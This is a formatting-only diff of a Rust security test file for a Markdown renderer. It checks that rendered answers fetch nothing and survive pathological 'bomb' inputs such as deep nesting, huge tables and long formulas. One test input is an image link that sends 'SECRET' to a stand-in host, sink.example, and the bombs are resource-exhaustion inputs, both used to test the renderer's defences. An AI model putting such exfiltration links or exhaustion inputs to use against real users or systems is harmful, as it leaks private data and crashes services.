@@ -149,16 +149,15 @@ fn w5_nothing_is_fetched() {
     for payload in PAYLOADS {
         let html = html(payload);
         for tag in [
-            "<img", "<link", "<video", "<audio", "<iframe", "<object", "<embed", "<source",
-            "<style", "<svg", "<base", "<meta",
+            "<img", "<link", "<video", "<audio", "<iframe", "<object", "<embed", "<source", "<style", "<svg",
+            "<base", "<meta",
         ] {
             assert!(!html.contains(tag), "{html}");
         }
     }
     assert!(
-        html("![x](https://sink.example/?d=SECRET)").contains(
-            "rel=\"noopener noreferrer nofollow\" target=\"_blank\">x (sink.example)</a>"
-        )
+        html("![x](https://sink.example/?d=SECRET)")
+            .contains("rel=\"noopener noreferrer nofollow\" target=\"_blank\">x (sink.example)</a>")
     );
 }
 
@@ -239,25 +238,14 @@ pub fn bombs(size: usize) -> Vec<(&'static str, String)> {
     .map(|(name, unit)| (*name, fill(unit)))
     .collect();
     let levels = 300;
-    let nested: String = (0..levels)
-        .map(|level| format!("{}- a\n", "  ".repeat(level)))
-        .collect();
+    let nested: String = (0..levels).map(|level| format!("{}- a\n", "  ".repeat(level))).collect();
     bombs.push(("nested list", nested.repeat(size / nested.len() + 1)));
     bombs.push((
         "nested list, blank lines",
-        (0..40)
-            .map(|level| format!("{}- a\n", "  ".repeat(level)))
-            .collect::<String>()
-            + &"\n".repeat(size),
+        (0..40).map(|level| format!("{}- a\n", "  ".repeat(level))).collect::<String>() + &"\n".repeat(size),
     ));
-    bombs.push((
-        "deep quote, lazy lines",
-        ">".repeat(size / 2) + &"\na".repeat(size / 4),
-    ));
-    bombs.push((
-        "list of quotes, blank lines",
-        format!("- {}\n\n\nx", ">".repeat(size)),
-    ));
+    bombs.push(("deep quote, lazy lines", ">".repeat(size / 2) + &"\na".repeat(size / 4)));
+    bombs.push(("list of quotes, blank lines", format!("- {}\n\n\nx", ">".repeat(size))));
     bombs.push((
         "wide table, short rows",
         "|a".repeat(500) + "|\n" + &"|-".repeat(500) + "|\n" + &"a\n".repeat(size / 2),
@@ -266,52 +254,22 @@ pub fn bombs(size: usize) -> Vec<(&'static str, String)> {
         "table, short rows",
         "|a".repeat(60) + "|\n" + &"|-".repeat(60) + "|\n" + &"a\n".repeat(size / 2),
     ));
-    bombs.push((
-        "openers before a heading",
-        "\\(a ".repeat(size / 8) + "\n# " + &"\\) ".repeat(size / 8),
-    ));
+    bombs.push(("openers before a heading", "\\(a ".repeat(size / 8) + "\n# " + &"\\) ".repeat(size / 8)));
     bombs.push(("openers before a tick", "\\(a ".repeat(size / 4) + "` \\)"));
     bombs.push(("dollars before a tick", "$$a ".repeat(size / 4) + "` $$"));
     bombs.push(("long word", "a".repeat(size)));
-    bombs.push((
-        "long chinese host",
-        format!("https://{}", "你".repeat(size / 3)),
-    ));
+    bombs.push(("long chinese host", format!("https://{}", "你".repeat(size / 3))));
     bombs.push(("long address", "http://a.b/".to_owned() + &"a".repeat(size)));
-    bombs.push((
-        "blanks and dollars",
-        " ".repeat(size / 2) + &"$$".repeat(size / 4),
-    ));
-    bombs.push((
-        "emphasis, deep",
-        "*a ".repeat(size / 6) + &"b* ".repeat(size / 6),
-    ));
-    bombs.push((
-        "brackets, deep",
-        "[".repeat(size / 2) + &"]".repeat(size / 2),
-    ));
-    bombs.push((
-        "images, deep",
-        "![".repeat(size / 8) + &"](a)".repeat(size / 8),
-    ));
+    bombs.push(("blanks and dollars", " ".repeat(size / 2) + &"$$".repeat(size / 4)));
+    bombs.push(("emphasis, deep", "*a ".repeat(size / 6) + &"b* ".repeat(size / 6)));
+    bombs.push(("brackets, deep", "[".repeat(size / 2) + &"]".repeat(size / 2)));
+    bombs.push(("images, deep", "![".repeat(size / 8) + &"](a)".repeat(size / 8)));
     bombs.push(("long formula", format!("${}$", "x+".repeat(size / 2))));
     bombs.push(("deep formula", format!("${}$", "\\hat".repeat(900))));
-    bombs.push((
-        "formulas, dense",
-        "$\\frac{\\hat a}{\\sqrt{b^{c_d}}}$ ".repeat(size / 32),
-    ));
-    bombs.push((
-        "code, strings",
-        format!("```js\n{}", "\"a\n".repeat(size / 3)),
-    ));
-    bombs.push((
-        "code, comments",
-        format!("```rust\n{}", "/*\n".repeat(size / 3)),
-    ));
-    bombs.push((
-        "code, tags",
-        format!("```html\n{}", "<script>\n".repeat(size / 9)),
-    ));
+    bombs.push(("formulas, dense", "$\\frac{\\hat a}{\\sqrt{b^{c_d}}}$ ".repeat(size / 32)));
+    bombs.push(("code, strings", format!("```js\n{}", "\"a\n".repeat(size / 3))));
+    bombs.push(("code, comments", format!("```rust\n{}", "/*\n".repeat(size / 3))));
+    bombs.push(("code, tags", format!("```html\n{}", "<script>\n".repeat(size / 9))));
     bombs
 }
 
@@ -319,14 +277,9 @@ pub fn bombs(size: usize) -> Vec<(&'static str, String)> {
 fn i13_no_text_is_too_much() {
     // Answers are rendered on threads with small stacks, and an overflow would end the process.
     let work = || {
-        bombs(16 << 10)
-            .iter()
-            .for_each(|(name, text)| is_bearable(name, text));
+        bombs(16 << 10).iter().for_each(|(name, text)| is_bearable(name, text));
     };
-    let thread = std::thread::Builder::new()
-        .stack_size(512 << 10)
-        .spawn(work)
-        .unwrap();
+    let thread = std::thread::Builder::new().stack_size(512 << 10).spawn(work).unwrap();
     thread.join().unwrap();
     assert!(!is_guarded());
 }
@@ -342,11 +295,7 @@ fn is_bearable(name: &str, text: &str) {
             .map(|fault| fault[..fault.floor_char_boundary(300)].to_owned());
         assert_eq!(fault, None, "{name}");
     }
-    assert!(
-        size < 48 * text.len() + 10_000,
-        "{name}: {} bytes became {size}",
-        text.len()
-    );
+    assert!(size < 48 * text.len() + 10_000, "{name}: {} bytes became {size}", text.len());
     assert!(took.as_secs() < 10, "{name}: {took:?}");
 }
 
